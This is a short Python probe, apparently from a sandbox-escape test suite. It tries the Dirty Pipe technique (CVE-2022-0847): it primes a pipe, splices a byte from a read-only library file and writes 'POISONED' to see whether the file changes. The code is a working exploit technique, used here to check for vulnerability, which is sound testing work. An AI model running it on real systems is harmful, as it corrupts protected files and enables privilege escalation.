# tries: merge a write into a page of a library by way of a pipe (CVE-2022-0847)
# status: ok
path = os.__file__
before = open(path, 'rb').read(64)
a, b = os.pipe()
try:
    os.set_blocking(b, False)
    while True:
        os.write(b, b'x' * 4096)
except BlockingIOError:
    pass
os.set_blocking(a, False)
try:
    while True:
        os.read(a, 65536)
except BlockingIOError:
    pass
fd = os.open(path, os.O_RDONLY)
try:
    os.splice(fd, b, 1, offset_src=1)
    os.write(b, b'POISONED')
except OSError:
    pass
if open(path, 'rb').read(64) != before:
    escaped('a library was changed')
done()
